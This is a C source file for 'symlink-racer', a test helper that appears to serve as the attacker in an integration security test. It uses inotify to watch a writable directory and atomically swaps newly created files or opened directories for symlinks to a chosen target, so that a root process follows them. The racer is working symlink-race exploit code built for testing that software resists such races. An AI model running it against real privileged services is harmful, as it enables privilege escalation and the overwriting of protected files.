/*
 * symlink-racer - the attacker of t/integration/security-race.t: run as
 * an unprivileged user, it swaps a name in a directory it may write for
 * a symlink to TARGET the moment the name appears (inotify), hoping that
 * root follows it.  Bounded in time and in swaps.
 *
 *   symlink-racer [-d] [-t SECONDS] [-n SWAPS] DIR TARGET NAME...
 *
 * Without -d: each time DIR/NAME is created (a socket, a pid file), it
 * is replaced, atomically, by a symlink to TARGET.  With -d: the first
 * time directory DIR/NAME is opened, it is moved to NAME.moved and a
 * symlink to TARGET takes its place (once; then the racer exits).
 * Prints "ready" once watching, "swaps=N" at the end (also on SIGTERM).
 */
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static bool wanted(const char *name, char **names, int n)
{
	for (int i = 0; i < n; i++)
		if (!strcmp(name, names[i]))
			return true;
	return false;
}

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* One swap of DIR/name for a symlink to target; 1 if done. */
static int swap(const char *dir, const char *target, const char *name, bool dirmode)
{
	char path[PATH_MAX], aside[PATH_MAX];
	struct stat st;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if (lstat(path, &st) < 0 || S_ISLNK(st.st_mode))
		return 0;
	if (dirmode) {
		snprintf(aside, sizeof(aside), "%s/%s.moved", dir, name);
		if (rename(path, aside) < 0)
			return 0;
		return symlink(target, path) == 0;
	}
	snprintf(aside, sizeof(aside), "%s/.racer-%ld", dir, (long)getpid());
	unlink(aside);
	if (symlink(target, aside) < 0)
		return 0;
	if (rename(aside, path) < 0) {
		unlink(aside);
		return 0;
	}
	return 1;
}

int main(int argc, char **argv)
{
	bool dirmode = false;
	int secs = 30, max = 1000, swaps = 0, opt;

	while ((opt = getopt(argc, argv, "dt:n:")) != -1) {
		switch (opt) {
		case 'd': dirmode = true; break;
		case 't': secs = atoi(optarg); break;
		case 'n': max = atoi(optarg); break;
		default: return 2;
		}
	}
	if (argc - optind < 3) {
		fprintf(stderr, "usage: symlink-racer [-d] [-t SECONDS] [-n SWAPS] DIR TARGET NAME...\n");
		return 2;
	}
	const char *dir = argv[optind], *target = argv[optind + 1];
	char **names = argv + optind + 2;
	int n_names = argc - optind - 2;
	int fd = inotify_init1(IN_CLOEXEC);
	uint32_t mask = dirmode ? IN_OPEN : IN_CREATE | IN_MOVED_TO;

	if (fd < 0 || inotify_add_watch(fd, dir, mask) < 0) {
		perror("symlink-racer: inotify");
		return 1;
	}
	signal(SIGTERM, on_term);
	printf("ready\n");
	fflush(stdout);
	long long end = now_ms() + secs * 1000LL;
	while (!stop && swaps < max && now_ms() < end) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));

		if (poll(&p, 1, 100) <= 0)
			continue;
		ssize_t len = read(fd, buf, sizeof(buf));
		for (char *q = buf; len > 0 && q < buf + len;) {
			const struct inotify_event *ev = (const struct inotify_event *)q;

			if (ev->len && wanted(ev->name, names, n_names) &&
			    (!dirmode || (ev->mask & IN_ISDIR)))
				swaps += swap(dir, target, ev->name, dirmode);
			q += sizeof(*ev) + ev->len;
		}
		if (dirmode && swaps)
			break;
	}
	printf("swaps=%d\n", swaps);
	return 0;
}
